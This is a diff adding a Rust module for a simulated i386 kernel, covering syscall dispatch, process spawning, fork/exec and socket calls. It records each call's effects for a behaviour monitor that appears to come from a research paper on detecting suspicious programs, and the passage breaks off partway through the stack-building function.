@@ -1,0 +1,1264 @@
+//! The kernel: syscall dispatch, process construction, virtual time.
+//!
+//! Syscalls follow the i386 Linux convention the paper's Harrier hooks:
+//! `int 0x80` with the number in `eax` and arguments in `ebx`, `ecx`,
+//! `edx`. Every serviced call returns a [`SyscallRecord`] describing the
+//! *observable effect* — which resource was touched, which memory ranges
+//! were read or written, where name/address arguments lived — which is
+//! exactly the information Harrier needs to tag data and emit Secpert
+//! events without re-parsing arguments itself.
+
+use std::collections::HashMap;
+
+use hth_vm::{asm, Core, Reg, VmError};
+
+use crate::net::{Endpoint, NetError, Network, SocketState};
+use crate::process::{FdKind, FdTable, ProcState, Process};
+use crate::vfs::{FileKind, Vfs};
+
+/// Syscall numbers (i386 Linux flavour; `SYS_RESOLVE` is the custom
+/// name-resolution backend used by the toy libc's `gethostbyname`).
+pub mod sysno {
+    #![allow(missing_docs)]
+    pub const EXIT: u32 = 1;
+    pub const FORK: u32 = 2;
+    pub const READ: u32 = 3;
+    pub const WRITE: u32 = 4;
+    pub const OPEN: u32 = 5;
+    pub const CLOSE: u32 = 6;
+    pub const EXECVE: u32 = 11;
+    pub const TIME: u32 = 13;
+    pub const MKNOD: u32 = 14;
+    pub const CHMOD: u32 = 15;
+    pub const GETPID: u32 = 20;
+    pub const DUP: u32 = 41;
+    pub const BRK: u32 = 45;
+    pub const SOCKETCALL: u32 = 102;
+    pub const CLONE: u32 = 120;
+    pub const NANOSLEEP: u32 = 162;
+    pub const RESOLVE: u32 = 200;
+}
+
+/// `socketcall` sub-call numbers.
+pub mod sockcall {
+    #![allow(missing_docs)]
+    pub const SOCKET: u32 = 1;
+    pub const BIND: u32 = 2;
+    pub const CONNECT: u32 = 3;
+    pub const LISTEN: u32 = 4;
+    pub const ACCEPT: u32 = 5;
+    pub const SEND: u32 = 9;
+    pub const RECV: u32 = 10;
+}
+
+/// `open` flag bits (subset).
+pub mod oflags {
+    #![allow(missing_docs)]
+    pub const RDONLY: u32 = 0;
+    pub const WRONLY: u32 = 0x1;
+    pub const RDWR: u32 = 0x2;
+    pub const CREAT: u32 = 0x40;
+    pub const TRUNC: u32 = 0x200;
+    pub const APPEND: u32 = 0x400;
+}
+
+/// Errno values (returned negated).
+pub mod errno {
+    #![allow(missing_docs)]
+    pub const ENOENT: i32 = 2;
+    pub const ENOEXEC: i32 = 8;
+    pub const EBADF: i32 = 9;
+    pub const EAGAIN: i32 = 11;
+    pub const EFAULT: i32 = 14;
+    pub const EINVAL: i32 = 22;
+    pub const ENOSYS: i32 = 38;
+    pub const ECONNREFUSED: i32 = 111;
+}
+
+/// A kernel-level resource, as seen at a syscall boundary.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Resource {
+    /// A VFS file.
+    File {
+        /// Path.
+        path: String,
+        /// True for FIFOs.
+        fifo: bool,
+    },
+    /// Console input.
+    Stdin,
+    /// Console output.
+    Stdout,
+    /// Console error.
+    Stderr,
+    /// A socket with whatever endpoints are known.
+    Socket {
+        /// Local endpoint if bound/connected.
+        local: Option<Endpoint>,
+        /// Remote endpoint if connected.
+        remote: Option<Endpoint>,
+        /// The socket (or its listener) accepts remote connections.
+        listening: bool,
+        /// This connection was produced by `accept`.
+        accepted: bool,
+    },
+}
+
+/// Observable effect of a serviced syscall (consumed by Harrier).
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum SyscallEffect {
+    /// Nothing the monitor cares about.
+    None,
+    /// Process exited.
+    Exit {
+        /// Exit status.
+        code: i32,
+    },
+    /// `fork`/`clone`: the session must create the child via
+    /// [`Kernel::fork`] and fix up both `eax` values.
+    ForkRequested,
+    /// `execve`: the session decides whether to run the new image.
+    ExecRequested {
+        /// Requested path.
+        path: String,
+        /// Address of the path string (for resource-id taint).
+        path_addr: u32,
+        /// True when the kernel knows a binary by this name.
+        found: bool,
+    },
+    /// A resource was opened.
+    Open {
+        /// New descriptor.
+        fd: i32,
+        /// What was opened.
+        resource: Resource,
+        /// Address of the path argument string.
+        path_addr: u32,
+    },
+    /// A descriptor was closed.
+    Close {
+        /// What it referred to.
+        resource: Resource,
+    },
+    /// Bytes were read into process memory at `[buf, buf+len)`.
+    Read {
+        /// Source resource.
+        resource: Resource,
+        /// Destination buffer address.
+        buf: u32,
+        /// Bytes actually read.
+        len: u32,
+    },
+    /// Bytes were written from process memory at `[buf, buf+len)`.
+    Write {
+        /// Target resource.
+        resource: Resource,
+        /// Source buffer address.
+        buf: u32,
+        /// Bytes written.
+        len: u32,
+    },
+    /// `dup`.
+    Dup {
+        /// Original descriptor.
+        old: i32,
+        /// New descriptor.
+        new: i32,
+        /// Shared resource.
+        resource: Resource,
+    },
+    /// `socket()` created a descriptor.
+    SocketCreated {
+        /// New descriptor.
+        fd: i32,
+    },
+    /// `bind`.
+    Bind {
+        /// Socket resource after binding.
+        resource: Resource,
+        /// Address of the sockaddr argument.
+        addr_ptr: u32,
+        /// Bound endpoint.
+        endpoint: Endpoint,
+    },
+    /// `listen` — the program is now a server (paper: High-severity
+    /// signal when combined with hardcoded addresses).
+    Listen {
+        /// Listening socket resource.
+        resource: Resource,
+    },
+    /// `connect`.
+    Connect {
+        /// Connected socket resource.
+        resource: Resource,
+        /// Address of the sockaddr argument (for resource-id taint).
+        addr_ptr: u32,
+        /// Remote endpoint.
+        endpoint: Endpoint,
+    },
+    /// `accept` produced a connected socket.
+    Accept {
+        /// New descriptor.
+        fd: i32,
+        /// Connected socket resource.
+        resource: Resource,
+    },
+    /// Custom name resolution (`gethostbyname` backend). Harrier
+    /// short-circuits taint across this call (paper §7.2).
+    Resolve {
+        /// The name that was resolved.
+        name: String,
+        /// Address of the name string.
+        name_addr: u32,
+        /// Resolution succeeded.
+        ok: bool,
+    },
+    /// `mknod` created a FIFO.
+    Mknod {
+        /// FIFO path.
+        path: String,
+        /// Address of the path string.
+        path_addr: u32,
+    },
+    /// `chmod`.
+    Chmod {
+        /// Path affected.
+        path: String,
+    },
+    /// `nanosleep` advanced virtual time.
+    Sleep {
+        /// Ticks slept.
+        ticks: u64,
+    },
+    /// `brk` grew the heap (resource-abuse signal, paper §10 item 4).
+    Brk {
+        /// Bytes requested by this call.
+        grew: u64,
+        /// Total heap bytes allocated by the process so far.
+        total: u64,
+    },
+}
+
+/// A serviced syscall: number, name, return value, effect.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct SyscallRecord {
+    /// Raw syscall number.
+    pub number: u32,
+    /// Symbolic name in the paper's notation (`SYS_execve`).
+    pub name: &'static str,
+    /// Value placed in `eax`.
+    pub ret: i32,
+    /// Observable effect.
+    pub effect: SyscallEffect,
+}
+
+/// A registered executable: assembly source plus the shared objects it
+/// links against.
+#[derive(Clone, Debug)]
+pub struct BinarySpec {
+    /// Assembly source text.
+    pub source: String,
+    /// Library names (must be registered with [`Kernel::register_lib`]).
+    pub libs: Vec<String>,
+}
+
+/// Base address where application text is assembled.
+pub const APP_BASE: u32 = 0x0804_8000;
+/// Base address of the first shared object; subsequent ones are spaced
+/// by `LIB_STRIDE`.
+pub const LIB_BASE: u32 = 0x4000_0000;
+/// Address stride between shared objects.
+pub const LIB_STRIDE: u32 = 0x0100_0000;
+/// Scratch (bss-like) region mapped into every process.
+pub const SCRATCH_BASE: u32 = 0x0900_0000;
+/// Scratch region size.
+pub const SCRATCH_SIZE: u32 = 0x0004_0000;
+/// Heap base address (`brk` grows upward from here).
+pub const HEAP_BASE: u32 = 0x0a00_0000;
+/// Maximum heap bytes a process may map (64 MiB).
+pub const MAX_HEAP: u64 = 0x0400_0000;
+/// Stack region (grows down from `STACK_TOP`).
+pub const STACK_BASE: u32 = 0xbfe0_0000;
+/// Top of stack mapping.
+pub const STACK_TOP: u32 = 0xc000_0000;
+
+/// Errors from process construction.
+#[derive(Debug)]
+pub enum SpawnError {
+    /// No binary registered under that path.
+    UnknownBinary(String),
+    /// A referenced library was never registered.
+    UnknownLib(String),
+    /// The binary or one of its libraries failed to assemble.
+    Asm(asm::AsmError),
+    /// Link-time symbol resolution failed.
+    Link(VmError),
+}
+
+impl std::fmt::Display for SpawnError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            SpawnError::UnknownBinary(p) => write!(f, "no binary registered at `{p}`"),
+            SpawnError::UnknownLib(l) => write!(f, "library `{l}` not registered"),
+            SpawnError::Asm(e) => write!(f, "{e}"),
+            SpawnError::Link(e) => write!(f, "{e}"),
+        }
+    }
+}
+
+impl std::error::Error for SpawnError {}
+
+impl From<asm::AsmError> for SpawnError {
+    fn from(e: asm::AsmError) -> SpawnError {
+        SpawnError::Asm(e)
+    }
+}
+
+/// The OS kernel: filesystem, network, clock, binary registry, syscall
+/// servicing. Processes themselves are owned by the monitoring session,
+/// which drives scheduling; the kernel provides every mechanism.
+#[derive(Debug, Default)]
+pub struct Kernel {
+    /// The filesystem.
+    pub vfs: Vfs,
+    /// The simulated network.
+    pub net: Network,
+    ticks: u64,
+    instructions: u64,
+    instr_per_tick: u64,
+    next_pid: u32,
+    binaries: HashMap<String, BinarySpec>,
+    libs: HashMap<String, String>,
+    stdin_script: std::collections::VecDeque<Vec<u8>>,
+    stdout: Vec<u8>,
+    /// Tick of every fork, for the resource-abuse rate rule.
+    pub fork_ticks: Vec<u64>,
+    /// Every path passed to `execve`, in order.
+    pub exec_log: Vec<String>,
+}
+
+impl Kernel {
+    /// Creates a kernel with an empty filesystem and default network.
+    pub fn new() -> Kernel {
+        Kernel {
+            net: Network::new(),
+            instr_per_tick: 50,
+            next_pid: 1,
+            ..Kernel::default()
+        }
+    }
+
+    // ---- configuration -----------------------------------------------------
+
+    /// Registers an executable under `path`.
+    pub fn register_binary(&mut self, path: &str, source: &str, libs: &[&str]) {
+        self.binaries.insert(
+            path.to_string(),
+            BinarySpec { source: source.to_string(), libs: libs.iter().map(|s| s.to_string()).collect() },
+        );
+    }
+
+    /// Registers a shared object by name.
+    pub fn register_lib(&mut self, name: &str, source: &str) {
+        self.libs.insert(name.to_string(), source.to_string());
+    }
+
+    /// Queues one chunk of console input (one `read(0, …)` consumes one
+    /// chunk, like a line-buffered terminal).
+    pub fn push_stdin(&mut self, chunk: impl Into<Vec<u8>>) {
+        self.stdin_script.push_back(chunk.into());
+    }
+
+    /// Everything written to stdout/stderr so far.
+    pub fn stdout(&self) -> &[u8] {
+        &self.stdout
+    }
+
+    /// Sets how many retired instructions make one clock tick.
+    pub fn set_instr_per_tick(&mut self, n: u64) {
+        self.instr_per_tick = n.max(1);
+    }
+
+    // ---- time ---------------------------------------------------------------
+
+    /// Current virtual time.
+    pub fn now(&self) -> u64 {
+        self.ticks
+    }
+
+    /// Accounts retired instructions toward the clock.
+    pub fn note_instructions(&mut self, n: u64) {
+        self.instructions += n;
+        while self.instructions >= self.instr_per_tick {
+            self.instructions -= self.instr_per_tick;
+            self.ticks += 1;
+        }
+    }
+
+    // ---- process construction ------------------------------------------------
+
+    fn next_pid(&mut self) -> u32 {
+        let pid = self.next_pid;
+        self.next_pid += 1;
+        pid
+    }
+
+    /// Builds a ready-to-run process for a registered binary.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`SpawnError`] when the binary/libraries are unknown or
+    /// fail to assemble or link.
+    pub fn spawn(
+        &mut self,
+        path: &str,
+        argv: &[&str],
+        env: &[(&str, &str)],
+    ) -> Result<Process, SpawnError> {
+        let spec = self
+            .binaries
+            .get(path)
+            .cloned()
+            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
+        let pid = self.next_pid();
+        let core = self.build_core(path, &spec)?;
+        let mut proc = Process {
+            pid,
+            parent: 0,
+            core,
+            fds: FdTable::new(),
+            state: ProcState::Running,
+            image_name: path.to_string(),
+            cmdline: argv.iter().map(|s| s.to_string()).collect(),
+            initial_stack: (0, 0),
+            start_tick: self.now(),
+            heap_bytes: 0,
+        };
+        proc.initial_stack = build_initial_stack(&mut proc.core, argv, env);
+        proc.core.start();
+        Ok(proc)
+    }
+
+    fn build_core(&self, path: &str, spec: &BinarySpec) -> Result<Core, SpawnError> {
+        let mut core = Core::new();
+        let app = asm::assemble(path, &spec.source, APP_BASE)?;
+        core.load_image(app);
+        for (i, lib) in spec.libs.iter().enumerate() {
+            let src = self.libs.get(lib).ok_or_else(|| SpawnError::UnknownLib(lib.clone()))?;
+            let img = asm::assemble(lib, src, LIB_BASE + i as u32 * LIB_STRIDE)?;
+            core.load_image(img);
+        }
+        core.link().map_err(SpawnError::Link)?;
+        core.mem.map(SCRATCH_BASE, SCRATCH_BASE + SCRATCH_SIZE);
+        core.mem.map(STACK_BASE, STACK_TOP);
+        Ok(core)
+    }
+
+    /// Forks `parent`: clones memory, registers and descriptors. The
+    /// child's `eax` is 0; the caller sets the parent's `eax` to the
+    /// returned child's pid.
+    pub fn fork(&mut self, parent: &Process) -> Process {
+        let pid = self.next_pid();
+        self.fork_ticks.push(self.now());
+        let mut core = parent.core.clone();
+        core.cpu.set(Reg::Eax, 0);
+        Process {
+            pid,
+            parent: parent.pid,
+            core,
+            fds: parent.fds.clone(),
+            state: ProcState::Running,
+            image_name: parent.image_name.clone(),
+            cmdline: parent.cmdline.clone(),
+            initial_stack: parent.initial_stack,
+            start_tick: self.now(),
+            heap_bytes: parent.heap_bytes,
+        }
+    }
+
+    /// Replaces `proc`'s image with registered binary `path` (the second
+    /// half of `execve`). Descriptors survive, memory does not.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`SpawnError`] when the binary is unknown or broken.
+    pub fn exec_into(
+        &mut self,
+        proc: &mut Process,
+        path: &str,
+        argv: &[&str],
+    ) -> Result<(), SpawnError> {
+        let spec = self
+            .binaries
+            .get(path)
+            .cloned()
+            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
+        let mut core = self.build_core(path, &spec)?;
+        let initial_stack = build_initial_stack(&mut core, argv, &[]);
+        core.start();
+        proc.core = core;
+        proc.image_name = path.to_string();
+        proc.cmdline = argv.iter().map(|s| s.to_string()).collect();
+        proc.initial_stack = initial_stack;
+        proc.heap_bytes = 0;
+        Ok(())
+    }
+
+    /// True when `path` names a registered binary.
+    pub fn knows_binary(&self, path: &str) -> bool {
+        self.binaries.contains_key(path)
+    }
+
+    // ---- syscall dispatch ------------------------------------------------------
+
+    /// Services the syscall pending in `proc` (registers per the i386
+    /// convention), sets `eax`, and reports what happened.
+    pub fn syscall(&mut self, proc: &mut Process) -> SyscallRecord {
+        let nr = proc.core.cpu.get(Reg::Eax);
+        let (name, ret, effect) = self.dispatch(proc, nr);
+        proc.core.cpu.set(Reg::Eax, ret as u32);
+        SyscallRecord { number: nr, name, ret, effect }
+    }
+
+    fn dispatch(&mut self, proc: &mut Process, nr: u32) -> (&'static str, i32, SyscallEffect) {
+        let ebx = proc.core.cpu.get(Reg::Ebx);
+        let ecx = proc.core.cpu.get(Reg::Ecx);
+        let edx = proc.core.cpu.get(Reg::Edx);
+        match nr {
+            sysno::EXIT => {
+                proc.state = ProcState::Exited(ebx as i32);
+                ("SYS_exit", 0, SyscallEffect::Exit { code: ebx as i32 })
+            }
+            sysno::FORK => ("SYS_fork", 0, SyscallEffect::ForkRequested),
+            sysno::CLONE => ("SYS_clone", 0, SyscallEffect::ForkRequested),
+            sysno::READ => self.sys_read(proc, ebx as i32, ecx, edx),
+            sysno::WRITE => self.sys_write(proc, ebx as i32, ecx, edx),
+            sysno::OPEN => self.sys_open(proc, ebx, ecx),
+            sysno::CLOSE => {
+                let name = "SYS_close";
+                match proc.fds.close(ebx as i32) {
+                    Some(kind) => {
+                        let resource = self.resource_of(&kind);
+                        if let FdKind::Socket(id) = kind {
+                            self.net.close(id);
+                        }
+                        (name, 0, SyscallEffect::Close { resource })
+                    }
+                    None => (name, -errno::EBADF, SyscallEffect::None),
+                }
+            }
+            sysno::EXECVE => {
+                let path = match proc.core.mem.read_cstr(ebx, 4096) {
+                    Ok(p) => p,
+                    Err(_) => return ("SYS_execve", -errno::EFAULT, SyscallEffect::None),
+                };
+                self.exec_log.push(path.clone());
+                let found = self.knows_binary(&path);
+                // The session performs the actual exec (after Secpert has
+                // seen the event). The return value assumes failure; a
+                // successful exec never returns.
+                let ret = if found {
+                    0
+                } else if self.vfs.exists(&path) {
+                    -errno::ENOEXEC
+                } else {
+                    -errno::ENOENT
+                };
+                ("SYS_execve", ret, SyscallEffect::ExecRequested { path, path_addr: ebx, found })
+            }
+            sysno::TIME => ("SYS_time", self.now() as i32, SyscallEffect::None),
+            sysno::MKNOD => {
+                let path = match proc.core.mem.read_cstr(ebx, 4096) {
+                    Ok(p) => p,
+                    Err(_) => return ("SYS_mknod", -errno::EFAULT, SyscallEffect::None),
+                };
+                self.vfs.mkfifo(&path);
+                ("SYS_mknod", 0, SyscallEffect::Mknod { path, path_addr: ebx })
+            }
+            sysno::CHMOD => {
+                let path = match proc.core.mem.read_cstr(ebx, 4096) {
+                    Ok(p) => p,
+                    Err(_) => return ("SYS_chmod", -errno::EFAULT, SyscallEffect::None),
+                };
+                let exec = ecx & 0o111 != 0;
+                if self.vfs.chmod_exec(&path, exec) {
+                    ("SYS_chmod", 0, SyscallEffect::Chmod { path })
+                } else {
+                    ("SYS_chmod", -errno::ENOENT, SyscallEffect::None)
+                }
+            }
+            sysno::GETPID => ("SYS_getpid", proc.pid as i32, SyscallEffect::None),
+            sysno::DUP => match proc.fds.dup(ebx as i32) {
+                Some(new) => {
+                    let resource =
+                        proc.fds.get(new).map(|k| self.resource_of(k)).expect("just dup'ed");
+                    ("SYS_dup", new, SyscallEffect::Dup { old: ebx as i32, new, resource })
+                }
+                None => ("SYS_dup", -errno::EBADF, SyscallEffect::None),
+            },
+            sysno::SOCKETCALL => self.sys_socketcall(proc, ebx, ecx),
+            sysno::BRK => {
+                // Simplified brk: ebx = bytes to grow the heap by.
+                let grew = u64::from(ebx);
+                let old_total = proc.heap_bytes;
+                proc.heap_bytes += grew;
+                let base = HEAP_BASE + old_total as u32;
+                if grew > 0 && proc.heap_bytes <= MAX_HEAP {
+                    proc.core.mem.map(base, base + grew as u32);
+                }
+                (
+                    "SYS_brk",
+                    (HEAP_BASE as u64 + proc.heap_bytes) as i32,
+                    SyscallEffect::Brk { grew, total: proc.heap_bytes },
+                )
+            }
+            sysno::NANOSLEEP => {
+                self.ticks += u64::from(ebx);
+                ("SYS_nanosleep", 0, SyscallEffect::Sleep { ticks: u64::from(ebx) })
+            }
+            sysno::RESOLVE => {
+                let name = match proc.core.mem.read_cstr(ebx, 1024) {
+                    Ok(n) => n,
+                    Err(_) => return ("SYS_resolve", -errno::EFAULT, SyscallEffect::None),
+                };
+                match self.net.resolve(&name) {
+                    Ok(ip) => (
+                        "SYS_resolve",
+                        ip as i32,
+                        SyscallEffect::Resolve { name, name_addr: ebx, ok: true },
+                    ),
+                    Err(_) => (
+                        "SYS_resolve",
+                        0,
+                        SyscallEffect::Resolve { name, name_addr: ebx, ok: false },
+                    ),
+                }
+            }
+            _ => ("SYS_unknown", -errno::ENOSYS, SyscallEffect::None),
+        }
+    }
+
+    fn resource_of(&self, kind: &FdKind) -> Resource {
+        match kind {
+            FdKind::Stdin => Resource::Stdin,
+            FdKind::Stdout => Resource::Stdout,
+            FdKind::Stderr => Resource::Stderr,
+            FdKind::File { path, fifo, .. } => Resource::File { path: path.clone(), fifo: *fifo },
+            FdKind::Socket(id) => match self.net.get(*id) {
+                Ok(sock) => match sock.state {
+                    SocketState::Connected { local, remote, accepted } => Resource::Socket {
+                        local: Some(local),
+                        remote: Some(remote),
+                        listening: false,
+                        accepted,
+                    },
+                    SocketState::Listening(ep) => Resource::Socket {
+                        local: Some(ep),
+                        remote: None,
+                        listening: true,
+                        accepted: false,
+                    },
+                    SocketState::Bound(ep) => Resource::Socket {
+                        local: Some(ep),
+                        remote: None,
+                        listening: false,
+                        accepted: false,
+                    },
+                    _ => Resource::Socket {
+                        local: None,
+                        remote: None,
+                        listening: false,
+                        accepted: false,
+                    },
+                },
+                Err(_) => {
+                    Resource::Socket { local: None, remote: None, listening: false, accepted: false }
+                }
+            },
+        }
+    }
+
+    fn sys_open(&mut self, proc: &mut Process, path_ptr: u32, flags: u32) -> (&'static str, i32, SyscallEffect) {
+        let name = "SYS_open";
+        let path = match proc.core.mem.read_cstr(path_ptr, 4096) {
+            Ok(p) => p,
+            Err(_) => return (name, -errno::EFAULT, SyscallEffect::None),
+        };
+        let writing = flags & (oflags::WRONLY | oflags::RDWR | oflags::CREAT) != 0;
+        if writing {
+            self.vfs.open_write(&path, flags & oflags::TRUNC != 0);
+        } else if !self.vfs.exists(&path) {
+            return (name, -errno::ENOENT, SyscallEffect::None);
+        }
+        let fifo = matches!(self.vfs.get(&path).map(|n| &n.kind), Some(FileKind::Fifo(_)));
+        let offset = if flags & oflags::APPEND != 0 {
+            self.vfs.get(&path).map_or(0, |n| n.data().len())
+        } else {
+            0
+        };
+        let fd = proc.fds.alloc(FdKind::File { path: path.clone(), offset, fifo });
+        (
+            name,
+            fd,
+            SyscallEffect::Open {
+                fd,
+                resource: Resource::File { path, fifo },
+                path_addr: path_ptr,
+            },
+        )
+    }
+
+    fn sys_read(&mut self, proc: &mut Process, fd: i32, buf: u32, len: u32) -> (&'static str, i32, SyscallEffect) {
+        let name = "SYS_read";
+        let Some(kind) = proc.fds.get(fd).cloned() else {
+            return (name, -errno::EBADF, SyscallEffect::None);
+        };
+        let resource = self.resource_of(&kind);
+        let bytes: Vec<u8> = match kind {
+            FdKind::Stdin => self.stdin_script.pop_front().unwrap_or_default(),
+            FdKind::Stdout | FdKind::Stderr => return (name, -errno::EBADF, SyscallEffect::None),
+            FdKind::File { ref path, offset, .. } => {
+                let Some(data) = self.vfs.read(path, offset, len as usize) else {
+                    return (name, -errno::ENOENT, SyscallEffect::None);
+                };
+                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
+                    *offset += data.len();
+                }
+                data
+            }
+            FdKind::Socket(id) => match self.net.recv(id, len as usize) {
+                Ok(data) => data,
+                Err(NetError::WouldBlock) => return (name, -errno::EAGAIN, SyscallEffect::None),
+                Err(_) => return (name, -errno::EINVAL, SyscallEffect::None),
+            },
+        };
+        let take = bytes.len().min(len as usize);
+        if proc.core.mem.write_bytes(buf, &bytes[..take]).is_err() {
+            return (name, -errno::EFAULT, SyscallEffect::None);
+        }
+        (name, take as i32, SyscallEffect::Read { resource, buf, len: take as u32 })
+    }
+
+    fn sys_write(&mut self, proc: &mut Process, fd: i32, buf: u32, len: u32) -> (&'static str, i32, SyscallEffect) {
+        let name = "SYS_write";
+        let Some(kind) = proc.fds.get(fd).cloned() else {
+            return (name, -errno::EBADF, SyscallEffect::None);
+        };
+        let resource = self.resource_of(&kind);
+        let Ok(bytes) = proc.core.mem.read_bytes(buf, len) else {
+            return (name, -errno::EFAULT, SyscallEffect::None);
+        };
+        let written = match kind {
+            FdKind::Stdin => return (name, -errno::EBADF, SyscallEffect::None),
+            FdKind::Stdout | FdKind::Stderr => {
+                self.stdout.extend_from_slice(&bytes);
+                bytes.len()
+            }
+            FdKind::File { ref path, offset, .. } => {
+                let Some(n) = self.vfs.write(path, offset, &bytes) else {
+                    return (name, -errno::ENOENT, SyscallEffect::None);
+                };
+                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
+                    *offset += n;
+                }
+                n
+            }
+            FdKind::Socket(id) => match self.net.send(id, &bytes) {
+                Ok(n) => n,
+                Err(_) => return (name, -errno::EINVAL, SyscallEffect::None),
+            },
+        };
+        (name, written as i32, SyscallEffect::Write { resource, buf, len: written as u32 })
+    }
+
+    fn sys_socketcall(&mut self, proc: &mut Process, call: u32, args_ptr: u32) -> (&'static str, i32, SyscallEffect) {
+        let arg = |core: &Core, i: u32| core.mem.read_u32(args_ptr + 4 * i);
+        match call {
+            sockcall::SOCKET => {
+                let id = self.net.socket();
+                let fd = proc.fds.alloc(FdKind::Socket(id));
+                ("SYS_socket", fd, SyscallEffect::SocketCreated { fd })
+            }
+            sockcall::BIND => {
+                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
+                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
+                };
+                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
+                    return ("SYS_bind", -errno::EBADF, SyscallEffect::None);
+                };
+                let Some(mut ep) = read_sockaddr(&proc.core, addr_ptr) else {
+                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
+                };
+                if ep.ip == 0 {
+                    ep.ip = self.net.local_ip();
+                }
+                match self.net.bind(id, ep) {
+                    Ok(()) => {
+                        let resource = self.resource_of(&FdKind::Socket(id));
+                        ("SYS_bind", 0, SyscallEffect::Bind { resource, addr_ptr, endpoint: ep })
+                    }
+                    Err(_) => ("SYS_bind", -errno::EINVAL, SyscallEffect::None),
+                }
+            }
+            sockcall::CONNECT => {
+                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
+                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
+                };
+                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
+                    return ("SYS_connect", -errno::EBADF, SyscallEffect::None);
+                };
+                let Some(ep) = read_sockaddr(&proc.core, addr_ptr) else {
+                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
+                };
+                match self.net.connect(id, ep) {
+                    Ok(_local) => {
+                        let resource = self.resource_of(&FdKind::Socket(id));
+                        (
+                            "SYS_connect",
+                            0,
+                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
+                        )
+                    }
+                    Err(NetError::Refused) => {
+                        // The connection attempt is still an observable
+                        // (and suspicious) act; report the endpoint.
+                        let resource = self.resource_of(&FdKind::Socket(id));
+                        (
+                            "SYS_connect",
+                            -errno::ECONNREFUSED,
+                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
+                        )
+                    }
+                    Err(_) => ("SYS_connect", -errno::EINVAL, SyscallEffect::None),
+                }
+            }
+            sockcall::LISTEN => {
+                let Ok(fd) = arg(&proc.core, 0) else {
+                    return ("SYS_listen", -errno::EFAULT, SyscallEffect::None);
+                };
+                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
+                    return ("SYS_listen", -errno::EBADF, SyscallEffect::None);
+                };
+                match self.net.listen(id) {
+                    Ok(_) => {
+                        let resource = self.resource_of(&FdKind::Socket(id));
+                        ("SYS_listen", 0, SyscallEffect::Listen { resource })
+                    }
+                    Err(_) => ("SYS_listen", -errno::EINVAL, SyscallEffect::None),
+                }
+            }
+            sockcall::ACCEPT => {
+                let (Ok(fd), Ok(addr_out)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
+                    return ("SYS_accept", -errno::EFAULT, SyscallEffect::None);
+                };
+                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
+                    return ("SYS_accept", -errno::EBADF, SyscallEffect::None);
+                };
+                match self.net.accept(id) {
+                    Ok((conn, remote)) => {
+                        if addr_out != 0 {
+                            let _ = write_sockaddr(&mut proc.core, addr_out, remote);
+                        }
+                        let new_fd = proc.fds.alloc(FdKind::Socket(conn));
+                        let resource = self.resource_of(&FdKind::Socket(conn));
+                        ("SYS_accept", new_fd, SyscallEffect::Accept { fd: new_fd, resource })
+                    }
+                    Err(NetError::WouldBlock) => ("SYS_accept", -errno::EAGAIN, SyscallEffect::None),
+                    Err(_) => ("SYS_accept", -errno::EINVAL, SyscallEffect::None),
+                }
+            }
+            sockcall::SEND => {
+                let (Ok(fd), Ok(buf), Ok(len)) =
+                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
+                else {
+                    return ("SYS_send", -errno::EFAULT, SyscallEffect::None);
+                };
+                let (name, ret, effect) = self.sys_write(proc, fd as i32, buf, len);
+                (if name == "SYS_write" { "SYS_send" } else { name }, ret, effect)
+            }
+            sockcall::RECV => {
+                let (Ok(fd), Ok(buf), Ok(len)) =
+                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
+                else {
+                    return ("SYS_recv", -errno::EFAULT, SyscallEffect::None);
+                };
+                let (name, ret, effect) = self.sys_read(proc, fd as i32, buf, len);
+                (if name == "SYS_read" { "SYS_recv" } else { name }, ret, effect)
+            }
+            _ => ("SYS_socketcall", -errno::EINVAL, SyscallEffect::None),
+        }
+    }
+}
+
+/// Reads the simplified 8-byte sockaddr `{u16 family, u16 port, u32 ip}`
+/// (all little-endian; family 2 = AF_INET).
+fn read_sockaddr(core: &Core, addr: u32) -> Option<Endpoint> {
+    let family = core.mem.read_u32(addr).ok()? & 0xffff;
+    if family != 2 {
+        return None;
+    }
+    let word = core.mem.read_u32(addr).ok()?;
+    let port = (word >> 16) as u16;
+    let ip = core.mem.read_u32(addr + 4).ok()?;
+    Some(Endpoint { ip, port })
+}
+
+/// Writes the simplified sockaddr.
+fn write_sockaddr(core: &mut Core, addr: u32, ep: Endpoint) -> Result<(), hth_vm::MemFault> {
+    core.mem.write_u32(addr, 2 | (u32::from(ep.port) << 16))?;
+    core.mem.write_u32(addr + 4, ep.ip)
+}
+
+/// Builds the initial stack: `argc`, `argv[]`, `envp[]` and their
+/// strings. Returns the `[esp, top)` range holding this user-controlled
+/// content — the monitor tags it `USER_INPUT` (paper §7.3.3).
+pub fn build_initial_stack(core: &mut Core, argv: &[&str], env: &[(&str, &str)]) -> (u32, u32) {
+    let top = STACK_TOP - 16;
+    let mut cursor = top;
+    let mut write_str = |core: &mut Core, s: &str| -> u32 {
+        cursor -= s.len() as u32 + 1;
+        core.mem.write_bytes(cursor, s.as_bytes()).expect("stack mapped");
+        core.mem.write_u8(cursor + s.len() as u32, 0).expect("stack mapped");
+        cursor
+    };
